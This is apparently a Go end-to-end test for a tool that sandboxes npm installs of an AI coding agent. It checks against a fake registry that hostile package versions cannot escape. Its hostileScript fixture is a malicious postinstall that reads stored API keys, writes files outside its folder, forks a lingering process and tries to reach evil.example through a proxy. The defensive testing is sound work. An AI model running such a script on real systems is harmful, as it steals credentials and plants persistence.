package e2e

// Agent installs inside the fence (issue 18): npm and every install script of the agent's
// packages run in an install sandbox of paddock's own engine. A loopback stand-in of the npm
// registry (packuments and tarballs with their integrity hashes) serves a fake Claude Code whose
// good version prints its version, and hostile versions whose postinstall reaches for the
// host's secrets, home and /tmp, for another host, and forks a long-lived process: none of it
// reaches the host (checked from the host side), the attempts are in the install log, the
// previous version stays and the one line says why.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// fakeRegistry is a loopback npm registry serving one package.
type fakeRegistry struct {
	url      string
	pkg      string
	mu       sync.Mutex
	versions map[string]json.RawMessage
	tarballs map[string][]byte
	latest   string
	requests []string
	// key signs every version's "name@version:integrity" as the npm registry does; badSig
	// versions get a signature over something else.
	key    *ecdsa.PrivateKey
	badSig map[string]bool
	// attest are the attestations documents of versions that announce one (set before publish).
	attest map[string]json.RawMessage
}

func startFakeRegistry(t *testing.T, pkg string) *fakeRegistry {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	r := &fakeRegistry{pkg: pkg, versions: map[string]json.RawMessage{},
		tarballs: map[string][]byte{}, key: key, badSig: map[string]bool{}, attest: map[string]json.RawMessage{}}
	r.url = serveLoopback(t, r) + "/"
	return r
}

// serveLoopback serves h on a loopback port until the test ends; it returns http://ADDR.
func serveLoopback(t *testing.T, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

func (r *fakeRegistry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.requests = append(r.requests, req.Method+" "+req.URL.Path)
	path := strings.ReplaceAll(req.URL.Path, "%2f", "/")
	path = strings.ReplaceAll(path, "%2F", "/")
	switch {
	case path == "/"+r.pkg:
		doc := map[string]any{"name": r.pkg, "dist-tags": map[string]string{"latest": r.latest}, "versions": r.versions}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(doc)
	case path == "/"+r.pkg+"/latest" && r.versions[r.latest] != nil:
		// A dist-tag's version, as registries answer paddock's one-request lookup of the latest.
		w.Header().Set("Content-Type", "application/json")
		w.Write(r.versions[r.latest])
	case strings.HasPrefix(path, "/"+r.pkg+"/") && r.versions[strings.TrimPrefix(path, "/"+r.pkg+"/")] != nil:
		w.Header().Set("Content-Type", "application/json")
		w.Write(r.versions[strings.TrimPrefix(path, "/"+r.pkg+"/")])
	case strings.HasPrefix(path, "/-/npm/v1/attestations/"+r.pkg+"@"):
		doc, ok := r.attest[strings.TrimPrefix(path, "/-/npm/v1/attestations/"+r.pkg+"@")]
		if !ok {
			http.NotFound(w, req)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(doc)
	case path == "/-/npm/v1/keys":
		der, _ := x509.MarshalPKIXPublicKey(&r.key.PublicKey)
		sum := sha256.Sum256(der)
		json.NewEncoder(w).Encode(map[string]any{"keys": []map[string]any{{"expires": nil,
			"keyid": "SHA256:" + base64.StdEncoding.EncodeToString(sum[:]), "keytype": "ecdsa-sha2-nistp256",
			"scheme": "ecdsa-sha2-nistp256", "key": base64.StdEncoding.EncodeToString(der)}}})
	case strings.HasPrefix(path, "/-/tarballs/"):
		b, ok := r.tarballs[strings.TrimPrefix(path, "/-/tarballs/")]
		if !ok {
			http.NotFound(w, req)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(b)
	default:
		http.NotFound(w, req)
	}
}

// publish adds a version whose package has files; badIntegrity publishes a hash that does not
// match the tarball.
func (r *fakeRegistry) publish(t *testing.T, version string, scripts map[string]string, files map[string]string, badIntegrity bool) {
	t.Helper()
	manifest := map[string]any{"name": r.pkg, "version": version, "bin": map[string]string{"claude": "cli.js"}}
	if scripts != nil {
		manifest["scripts"] = scripts
	}
	mj, _ := json.Marshal(manifest)
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	add := func(name, body string, mode int64) {
		tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: mode, Size: int64(len(body)), ModTime: time.Unix(1700000000, 0), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	add("package.json", string(mj), 0o644)
	add("cli.js", "#!/usr/bin/env node\nconsole.log('"+version+" (Claude Code)')\n", 0o755)
	for n, b := range files {
		add(n, b, 0o644)
	}
	tw.Close()
	gz.Close()
	tgz := buf.Bytes()
	sum := sha512.Sum512(tgz)
	if badIntegrity {
		sum = sha512.Sum512(append(tgz, 0))
	}
	s1 := sha1.Sum(tgz)
	name := "claude-code-" + version + ".tgz"
	integrity := "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
	signed := r.pkg + "@" + version + ":" + integrity
	if r.badSig[version] {
		signed += "-tampered"
	}
	digest := sha256.Sum256([]byte(signed))
	sig, err := ecdsa.SignASN1(rand.Reader, r.key, digest[:])
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKIXPublicKey(&r.key.PublicKey)
	kid := sha256.Sum256(der)
	manifest["dist"] = map[string]any{"tarball": r.url + "-/tarballs/" + name,
		"integrity": integrity, "shasum": hex.EncodeToString(s1[:]),
		"signatures": []map[string]string{{"keyid": "SHA256:" + base64.StdEncoding.EncodeToString(kid[:]), "sig": base64.StdEncoding.EncodeToString(sig)}}}
	if _, ok := r.attest[version]; ok {
		manifest["dist"].(map[string]any)["attestations"] = map[string]any{"url": r.url + "-/npm/v1/attestations/" + r.pkg + "@" + version,
			"provenance": map[string]string{"predicateType": "https://slsa.dev/provenance/v1"}}
	}
	full, _ := json.Marshal(manifest)
	r.mu.Lock()
	r.versions[version] = full
	r.tarballs[name] = tgz
	r.mu.Unlock()
}

func (r *fakeRegistry) setLatest(v string) {
	r.mu.Lock()
	r.latest = v
	r.mu.Unlock()
}

// otherHost listens on a loopback port of its own, another host a hostile install script
// reaches for, and counts the connections it gets.
func otherHost(t *testing.T) (int, *atomic.Int32) {
	t.Helper()
	other, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { other.Close() })
	reached := new(atomic.Int32)
	go func() {
		for {
			c, err := other.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			c.Close()
		}
	}()
	return other.Addr().(*net.TCPAddr).Port, reached
}

// assertFenced checks, from the host side, that the hostile script with nonce left nothing
// there: none of the files (nor /tmp/pwned-NONCE), no connection to the other host, no process.
func assertFenced(t *testing.T, nonce string, reached *atomic.Int32, files ...string) {
	t.Helper()
	for _, p := range append(files, "/tmp/pwned-"+nonce) {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("the install script wrote %s on the host", p)
			os.Remove(p)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("the install script reached the other host %d times", n)
	}
	if ps := fenceProcs(nonce); len(ps) != 0 {
		t.Errorf("the install script's process outlived the install: %q", ps)
	}
}

// hostileScript is a postinstall that tries to get out of its folder in every way it can and
// prints what it got; nonce marks what it leaves.
func hostileScript(phome, hostHome, nonce string, otherPort int) string {
	return fmt.Sprintf(`
const fs = require("fs"), net = require("net"), http = require("http"), cp = require("child_process");
const say = (m) => console.log("hostile: " + m);
try { say("secrets: " + fs.readFileSync(%[1]q + "/secrets/anthropic", "utf8")); } catch (e) { say("secrets: " + e.code); }
try { say("secrets dir: " + fs.readdirSync(%[1]q).join(",")); } catch (e) { say("secrets dir: " + e.code); }
for (const p of [%[2]q + "/pwned-%[3]s", "/tmp/pwned-%[3]s", "/root/pwned-%[3]s"]) {
  try { fs.writeFileSync(p, "x"); say("wrote " + p); } catch (e) { say("write " + p + ": " + e.code); }
}
cp.spawn("sh", ["-c", "sleep 600 # fence-%[3]s"], { detached: true, stdio: "ignore" }).unref();
say("forked");
const direct = net.connect(%[4]d, "127.0.0.1");
direct.on("connect", () => say("direct connect to the host: OPEN"));
direct.on("error", (e) => say("direct connect: " + e.code));
const tries = ["evil.example:443", "127.0.0.1:%[4]d"];
let left = tries.length;
for (const target of tries) {
  const req = http.request({ host: "127.0.0.1", port: 3128, method: "CONNECT", path: target });
  req.on("connect", (res) => { say("proxy CONNECT " + target + ": " + res.statusCode); done(); });
  req.on("response", (res) => { say("proxy CONNECT " + target + ": " + res.statusCode); done(); });
  req.on("error", (e) => { say("proxy CONNECT " + target + ": " + e.code); done(); });
  req.end();
}
function done() { if (--left === 0) setTimeout(() => process.exit(0), 200); }
`, phome, hostHome, nonce, otherPort)
}

// errorLines are the lines of stderr other than progress ("installing ...").
func errorLines(stderr string) []string {
	var out []string
	for _, l := range strings.Split(strings.TrimSpace(stderr), "\n") {
		if l != "" && !(strings.HasPrefix(l, "paddock: installing ") && strings.Contains(l, " from the npm registry (")) {
			out = append(out, l)
		}
	}
	return out
}

// fenceProcs lists host processes whose command line carries nonce.
func fenceProcs(nonce string) []string {
	var out []string
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, []byte("fence-"+nonce)) && !bytes.Contains(b, []byte("go-build")) {
			out = append(out, filepath.Dir(p)+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return out
}

type agentsJSON []struct {
	Name      string `json:"name"`
	Installed []struct {
		Version    string `json:"version"`
		Log        string `json:"install_log"`
		Signatures string `json:"signatures"`
		Integrity  string `json:"integrity"`
		Hosts      []struct {
			Host    string `json:"host"`
			Allowed bool   `json:"allowed"`
		} `json:"hosts"`
	} `json:"installed"`
	LastFailed *struct {
		Version string `json:"version"`
		Log     string `json:"log"`
		Error   string `json:"error"`
	} `json:"last_failed_install"`
	InstallHosts []string `json:"install_hosts"`
}

func (e *env) claudeView(t *testing.T) (v struct {
	Versions   []string
	Log        string
	Signatures string
	Integrity  string
	Failed     *struct{ Version, Log, Error string }
}) {
	t.Helper()
	var views agentsJSON
	if err := json.Unmarshal([]byte(e.ok("", "agents", "--json")), &views); err != nil {
		t.Fatal(err)
	}
	for _, a := range views {
		if a.Name != "claude" {
			continue
		}
		for _, i := range a.Installed {
			v.Versions = append(v.Versions, i.Version)
		}
		if len(a.Installed) > 0 {
			v.Log, v.Signatures, v.Integrity = a.Installed[0].Log, a.Installed[0].Signatures, a.Installed[0].Integrity
		}
		if a.LastFailed != nil {
			v.Failed = &struct{ Version, Log, Error string }{a.LastFailed.Version, a.LastFailed.Log, a.LastFailed.Error}
		}
	}
	return v
}

func TestAgentInstallFence(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		reg := startFakeRegistry(t, "@anthropic-ai/claude-code")
		// The user's npm settings, which the install carries over: the registry, and no retries
		// (npm retries a tarball that fails its hash for two minutes otherwise).
		e.extra = append(e.extra, "NPM_CONFIG_REGISTRY="+reg.url, "NPM_CONFIG_FETCH_RETRIES=0")
		// Another host the hostile script reaches for: the host's loopback, a port of its own.
		otherPort, reached := otherHost(t)
		key := "sk-ant-fence-" + strconv.FormatInt(time.Now().UnixNano(), 36)
		if r := e.runInput("", key+"\n", "secret", "set", "anthropic"); r.code != 0 {
			t.Fatalf("secret set: %s", r)
		}
		nonce := strconv.FormatInt(time.Now().UnixNano(), 36)
		hostHome, _ := os.UserHomeDir()
		if e.mode == asRootless {
			hostHome = e.home
		}
		reg.publish(t, "1.0.0", nil, nil, false)
		reg.publish(t, "6.6.6", map[string]string{"postinstall": "node post.js"},
			map[string]string{"post.js": hostileScript(e.phome, hostHome, nonce, otherPort)}, false)
		reg.publish(t, "6.6.7", map[string]string{"postinstall": "echo failing on purpose; exit 3"}, nil, false)
		reg.publish(t, "6.6.8", nil, nil, true)
		reg.publish(t, "6.6.9", map[string]string{"postinstall": "echo slow-fence-" + nonce + "; sleep 600"}, nil, false)
		reg.setLatest("1.0.0")

		ws := e.workspace("fence")
		r := e.run(ws, "run", "claude", "--", "--version")
		if r.code != 0 || strings.TrimSpace(r.stdout) != "1.0.0 (Claude Code)" {
			t.Fatalf("first install: %s", r)
		}
		v := e.claudeView(t)
		if len(v.Versions) != 1 || v.Log == "" || !strings.HasPrefix(v.Integrity, "verified") || v.Signatures == "" {
			t.Fatalf("agents --json after the first install: %+v", v)
		}
		log, _ := os.ReadFile(v.Log)
		if !strings.Contains(string(log), "--- host 127.0.0.1:") || !strings.Contains(string(log), "reached") {
			t.Errorf("the install log does not name the registry it reached:\n%s", log)
		}

		// The hostile version, asked for at once with agents update.
		reg.setLatest("6.6.6")
		r = e.run("", "agents", "update", "claude")
		if r.code == 0 || len(errorLines(r.stderr)) != 1 || !strings.Contains(r.stderr, "not the registry") ||
			!strings.Contains(r.stderr, "stays at 1.0.0") {
			t.Fatalf("hostile update: %s", r)
		}
		// Nothing reached the host.
		assertFenced(t, nonce, reached, filepath.Join(hostHome, "pwned-"+nonce), "/root/pwned-"+nonce)
		v = e.claudeView(t)
		if len(v.Versions) != 1 || v.Versions[0] != "1.0.0" || v.Failed == nil || v.Failed.Version != "6.6.6" {
			t.Fatalf("agents --json after the refusal: %+v", v)
		}
		log, _ = os.ReadFile(v.Failed.Log)
		for _, want := range []string{"hostile: secrets: ENOENT", "hostile: forked", "host evil.example:443 REFUSED",
			fmt.Sprintf("host 127.0.0.1:%d REFUSED", otherPort), "direct connect: ECONNREFUSED", "wrote outside its folder"} {
			if !strings.Contains(string(log), want) {
				t.Errorf("install log lacks %q:\n%s", want, log)
			}
		}
		if strings.Contains(string(log), key) {
			t.Errorf("the install script read the stored key")
		}
		if r := e.run(ws, "run", "claude", "--", "--version"); r.code != 0 || strings.TrimSpace(r.stdout) != "1.0.0 (Claude Code)" {
			t.Fatalf("after the refusal: %s", r)
		}

		// A failing install script, a tarball that does not match its hash: one line each, the
		// previous version kept, nothing half-installed.
		for _, c := range []struct{ version, want string }{{"6.6.7", "failing on purpose"}, {"6.6.8", "integrity"}} {
			reg.setLatest(c.version)
			r = e.run("", "agents", "update", "claude")
			if r.code == 0 || len(errorLines(r.stderr)) != 1 || !strings.Contains(r.stderr, "stays at 1.0.0") {
				t.Errorf("update to %s: %s", c.version, r)
			}
			if l, _ := os.ReadFile(filepath.Join(e.phome, "agents", "claude", ".log", c.version+".log")); !strings.Contains(string(l), c.want) {
				t.Errorf("log of %s lacks %q:\n%s", c.version, c.want, l)
			}
		}

		// An interrupted install: Ctrl-C while its script runs.
		reg.setLatest("6.6.9")
		cmd := e.command("", "agents", "update", "claude")
		var errb bytes.Buffer
		cmd.Stderr = &errb
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		for end := time.Now().Add(40 * time.Second); len(fenceProcs(nonce)) == 0 && time.Now().Before(end); {
			time.Sleep(50 * time.Millisecond)
		}
		if len(fenceProcs(nonce)) == 0 {
			cmd.Process.Kill()
			cmd.Wait()
			t.Fatalf("the slow install never ran its script: %s", errb.String())
		}
		cmd.Process.Signal(syscall.SIGINT)
		cmd.Wait()
		if cmd.ProcessState.ExitCode() == 0 || !strings.Contains(errb.String(), "interrupted") {
			t.Errorf("interrupted update: exit %d, %s", cmd.ProcessState.ExitCode(), errb.String())
		}
		time.Sleep(200 * time.Millisecond)
		if ps := fenceProcs(nonce); len(ps) != 0 {
			t.Errorf("the interrupted install left processes: %q", ps)
		}
		entries, _ := os.ReadDir(filepath.Join(e.phome, "agents", "claude"))
		for _, en := range entries {
			if strings.HasPrefix(en.Name(), ".tmp-") || strings.HasPrefix(en.Name(), ".npm-") || en.Name() == "6.6.9" {
				t.Errorf("half install left: %s", en.Name())
			}
		}
		if left, _ := os.ReadDir(filepath.Join(e.phome, "install", "sandboxes")); len(left) != 0 {
			t.Errorf("install sandboxes left: %d", len(left))
		}
		if v := e.claudeView(t); len(v.Versions) != 1 || v.Versions[0] != "1.0.0" {
			t.Fatalf("after the interrupted install: %+v", v)
		}

		// A good new version installs, and the next run starts it without asking the registry.
		reg.publish(t, "1.1.0", nil, nil, false)
		reg.setLatest("1.1.0")
		reg.mu.Lock()
		reg.requests = nil
		reg.mu.Unlock()
		if out := e.ok("", "agents", "update", "claude"); !strings.HasPrefix(out, "claude\t1.1.0\tinstalled") {
			t.Fatalf("agents update: %q", out)
		}
		reg.mu.Lock()
		// The latest version is asked in one small request (not npm view's whole packument).
		if !slices.Contains(reg.requests, "GET /"+reg.pkg+"/latest") {
			t.Errorf("agents update did not ask the registry for the latest version directly: %q", reg.requests)
		}
		reg.mu.Unlock()
		e.ok(ws, "stop", "claude-fence")
		reg.mu.Lock()
		reg.requests = nil
		reg.mu.Unlock()
		if r := e.run(ws, "run", "claude", "--", "--version"); r.code != 0 || strings.TrimSpace(r.stdout) != "1.1.0 (Claude Code)" {
			t.Fatalf("after the update: %s", r)
		}
		reg.mu.Lock()
		asked := reg.requests
		reg.mu.Unlock()
		if len(asked) != 0 {
			t.Errorf("run asked the registry on its hot path: %q", asked)
		}

		// A day later, a start launches the update in the background and does not wait for it:
		// it runs the installed version; a later start runs the new one.
		reg.publish(t, "1.2.0", map[string]string{"postinstall": "sleep 2"}, nil, false)
		reg.setLatest("1.2.0")
		old := time.Now().Add(-25 * time.Hour)
		os.Chtimes(filepath.Join(e.phome, "agents", "claude", ".checked"), old, old)
		e.ok(ws, "stop", "claude-fence")
		if r := e.run(ws, "run", "claude", "--", "--version"); r.code != 0 || strings.TrimSpace(r.stdout) != "1.1.0 (Claude Code)" {
			t.Fatalf("start with an update due: %s", r)
		}
		for end := time.Now().Add(50 * time.Second); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
			if b, _ := os.ReadFile(filepath.Join(e.phome, "agents", "claude", ".latest")); strings.TrimSpace(string(b)) == "1.2.0" {
				break
			}
		}
		e.ok(ws, "stop", "claude-fence")
		if r := e.run(ws, "run", "claude", "--", "--version"); r.code != 0 || strings.TrimSpace(r.stdout) != "1.2.0 (Claude Code)" {
			b, _ := os.ReadFile(filepath.Join(e.phome, "agents", "claude", ".log", "update.log"))
			t.Fatalf("after the background update: %s\nupdate.log: %s", r, b)
		}
		// Updates off: a due check starts nothing.
		e.extra = append(e.extra, "PADDOCK_AGENT_UPDATES=off")
		reg.publish(t, "1.3.0", nil, nil, false)
		reg.setLatest("1.3.0")
		os.Chtimes(filepath.Join(e.phome, "agents", "claude", ".checked"), old, old)
		e.ok(ws, "stop", "claude-fence")
		e.ok(ws, "run", "claude", "--", "--version")
		time.Sleep(3 * time.Second)
		if _, err := os.Stat(filepath.Join(e.phome, "agents", "claude", "1.3.0")); err == nil {
			t.Errorf("PADDOCK_AGENT_UPDATES=off, yet 1.3.0 was installed")
		}
	})
}
